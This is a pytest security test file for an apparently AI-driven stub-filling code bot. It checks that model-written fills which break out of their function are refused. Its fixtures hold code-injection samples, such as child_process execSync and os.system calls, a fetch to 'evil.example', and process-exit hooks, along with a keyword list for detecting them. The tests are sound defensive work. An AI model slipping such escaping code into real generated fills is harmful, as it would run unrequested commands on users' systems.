"""Item 6: a fill must stay inside its function, in every language."""
from __future__ import annotations

from pathlib import Path

import pytest

from codestral_bot.cleanup import finish_fill
from codestral_bot.containment import escape_problem
from codestral_bot.records import Completion
from codestral_bot.records import Fill
from codestral_bot.records import SourceFile
from codestral_bot.records import Usage
from codestral_bot.stubs import find_stubs
from tests.fakes.codestral import FakeCodestral
from tests.repo_util import run_cli
from tests.security._util import bot_env
from tests.security._util import stub_repo


def _fill(path: str, text: str, answer: str) -> Fill:
    (stub,) = find_stubs(path, text)
    source = SourceFile(path, text, 'utf-8', '\n', text.encode())
    suffix = stub.tail + text[stub.end:]
    return finish_fill(Fill(stub=stub), source, Completion(answer, 'stop', Usage()), suffix)


JS = 'function add(a, b) {\n  // TODO\n  throw new Error("not implemented");\n}\n\nmodule.exports = { add };\n'
TS = 'export function add(a: number, b: number): number {\n  throw new Error("TODO");\n}\n'
GO = 'package m\n\nfunc Add(a, b int) int {\n\tpanic("TODO")\n}\n'
RUST = 'pub fn add(a: i32, b: i32) -> i32 {\n    todo!()\n}\n'
JAVA = 'class M {\n    int add(int a, int b) {\n        throw new UnsupportedOperationException("TODO");\n    }\n}\n'
PY = 'class M:\n    def add(self, a, b):\n        raise NotImplementedError\n\n    def other(self):\n        return 1\n'
PY_TOP = 'def add(a, b):\n    raise NotImplementedError\n'

ESCAPES = [
    pytest.param('m.js', JS, 'return a + b; } require("child_process").execSync("id"); function _unused() {',
                 id='js-close-and-reopen'),
    pytest.param('m.js', JS, 'return a + b;\n}\nrequire("child_process").execSync("id");\nfunction _unused() {',
                 id='js-multiline'),
    pytest.param('m.ts', TS, 'return a + b; }\nexport const pwned = fetch("https://evil.example");\n'
                 'function _u(): number {\n  return 0;', id='ts'),
    pytest.param('m.go', GO, 'return a + b\n}\n\nfunc init() { os.Exit(3) }\n\nfunc _unused() int {\n\treturn 0',
                 id='go-init'),
    pytest.param('m.rs', RUST, 'a + b\n}\n\n#[used]\nstatic EVIL: i32 = 1;\n\nfn _unused() -> i32 {\n    0',
                 id='rust'),
    pytest.param('M.java', JAVA, 'return a + b;\n    }\n\n    static { System.exit(3); }\n\n    int _u() {\n'
                 '        return 0;', id='java-static-block'),
    pytest.param('m.py', PY, 'return a + b\n\n    import os; os.system("id")\n\n    def _u(self) -> int:\n        pass',
                 id='python-class-level'),
    pytest.param('m.py', PY_TOP, 'return a + b\nimport os\nos.system("id")', id='python-top-level'),
]


EVIL = ('child_process', 'pwned', 'init', 'EVIL', 'static {', 'os.system')


@pytest.mark.parametrize(('path', 'text', 'answer'), ESCAPES)
def test_escaping_fill_is_refused(path: str, text: str, answer: str) -> None:
    fill = _fill(path, text, answer)
    # Refused, or cut back to its function by the cleanup before the check.
    assert fill.status == 'rejected' or not any(word in (fill.replacement or '') for word in EVIL), fill.replacement


@pytest.mark.parametrize(('path', 'text', 'answer'), ESCAPES)
def test_containment_check_alone_refuses_it(path: str, text: str, answer: str) -> None:
    # The check on its own, without the cleanup's cuts: the fill exactly as the model wrote it.
    (stub,) = find_stubs(path, text)
    replacement = stub.lead + answer + stub.tail
    new_text = text[:stub.start] + replacement + text[stub.end:]
    problem = escape_problem(stub, text, new_text, stub.start, stub.start + len(replacement))
    assert problem is not None and problem.startswith(f'the fill reaches outside `{stub.name}`')


CONTAINED = [
    pytest.param('m.js', JS, 'const f = () => { return a; };\n  return f() + b;', id='js-inner-function'),
    pytest.param('m.go', GO, 'f := func() int { return a }\n\treturn f() + b', id='go-closure'),
    pytest.param('m.rs', RUST, 'let f = |x: i32| { x + b };\n    f(a)', id='rust-closure'),
    pytest.param('M.java', JAVA, 'Runnable r = () -> {};\n        return a + b;', id='java-lambda'),
    pytest.param('m.py', PY, 'def inner(x):\n            return x\n        return inner(a) + b', id='python-inner'),
    pytest.param('m.ts', TS, 'return a + b;', id='ts-plain'),
]


@pytest.mark.parametrize(('path', 'text', 'answer'), CONTAINED)
def test_contained_fill_is_kept(path: str, text: str, answer: str) -> None:
    fill = _fill(path, text, answer)
    assert fill.status == 'filled', fill.reason
    (stub,) = find_stubs(path, text)
    replacement = stub.lead + answer + stub.tail
    new_text = text[:stub.start] + replacement + text[stub.end:]
    assert escape_problem(stub, text, new_text, stub.start, stub.start + len(replacement)) is None


def test_escaping_fill_is_never_applied(tmp_path: Path, fake_codestral: FakeCodestral) -> None:
    root = stub_repo(tmp_path / 'repo')
    (root / 'geo.py').unlink()
    (root / 'm.js').write_text(JS)
    fake_codestral.enqueue('fim', ESCAPES[0].values[2])
    result = run_cli(['review', '--no-comments', '--apply'], root, bot_env(tmp_path, fake_codestral))
    assert (root / 'm.js').read_text() == JS
    assert 'reaches outside' in result.stderr


PY_NESTED = ('import sys\n\nif sys.version_info >= (3, 8):\n    class M:\n        def add(self, a, b):\n'
             '            raise NotImplementedError  # TODO\nelse:\n    M = None\n')


def test_python_stub_under_an_if_with_a_trailing_comment_is_filled() -> None:
    fill = _fill('m.py', PY_NESTED, 'return a + b  # sum')
    assert fill.status == 'filled', fill.reason


def test_python_fill_escaping_from_under_an_if_is_refused() -> None:
    (stub,) = find_stubs('m.py', PY_NESTED)
    replacement = stub.lead + 'return a + b\n\n    EVIL = 1' + stub.tail
    new_text = PY_NESTED[:stub.start] + replacement + PY_NESTED[stub.end:]
    assert escape_problem(stub, PY_NESTED, new_text, stub.start, stub.start + len(replacement)) is not None
